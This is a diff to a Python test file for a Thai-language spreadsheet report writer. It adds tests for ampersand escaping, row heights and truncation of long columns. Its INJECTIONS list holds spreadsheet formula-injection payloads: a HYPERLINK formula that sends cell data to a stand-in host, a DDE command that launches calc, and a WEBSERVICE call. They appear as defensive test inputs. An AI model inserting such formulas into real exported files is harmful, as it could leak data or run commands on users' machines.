@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import re
 from datetime import date, datetime
+from io import BytesIO
+from zipfile import ZipFile
 
 import pytest
 from hypothesis import example, given, settings
@@ -12,6 +14,7 @@ from workbooks import book, cell_types, every_text, one_column, opened, rows_of_
 
 from report.workbook.cells import LONGEST, cell_text
 from report.workbook.sheet import Column, LateDay, Sheet
+from report.workbook.writing import MOST_ROWS, _fitting
 
 INJECTIONS = [
     '=HYPERLINK("http://x/?"&A1,"ดูผล")', "=1+1", "=cmd|'/c calc'!A1", "=WEBSERVICE(A1)",
@@ -94,6 +97,8 @@ def test_headings_the_front_and_print_bands_pass_the_same_door() -> None:
     bands = opened(content).worksheets[1]
     assert "&P" in bands.oddFooter.right.text  # the page's own number, and no other
     assert len(bands.oddHeader.left.text) <= 255
+    with ZipFile(BytesIO(content)) as parts:  # an ampersand of ours is no code of Excel's
+        assert b"=1+1&amp;&amp;P" in parts.read("xl/worksheets/sheet2.xml")
 
 
 def test_numbers_and_days_are_what_they_were() -> None:
@@ -115,3 +120,17 @@ def test_a_late_day_says_so_beside_the_date() -> None:
     assert (on_time.value, late.value) == (datetime(2023, 4, 30), datetime(2023, 5, 1))
     assert "หลังกำหนด" not in on_time.number_format
     assert late.number_format.endswith('" (หลังกำหนด)"')
+
+
+def test_a_row_is_as_high_as_its_longest_wrapped_text() -> None:
+    sheet = opened(one_column(["ป" * 20, "ป" * 200, "ก\nข\nค", None], "long"))["ก"]
+    heights = [sheet.row_dimensions[row].height for row in range(2, 6)]
+    assert heights[0] is heights[3] is None  # one line: as every program does by itself
+    assert heights[1] > heights[2] > 40
+
+
+def test_more_cells_than_a_sheet_has_rows_are_cut_and_said_to_be() -> None:
+    assert len(_fitting(["ก"] * (MOST_ROWS - 1))) == MOST_ROWS - 1
+    fitting = _fitting(["ก"] * MOST_ROWS)
+    assert len(fitting) == MOST_ROWS - 1
+    assert fitting[-1] == "… เกินจำนวนแถวที่แผ่นงานรับได้ ดูทั้งหมดในไฟล์ CSV"
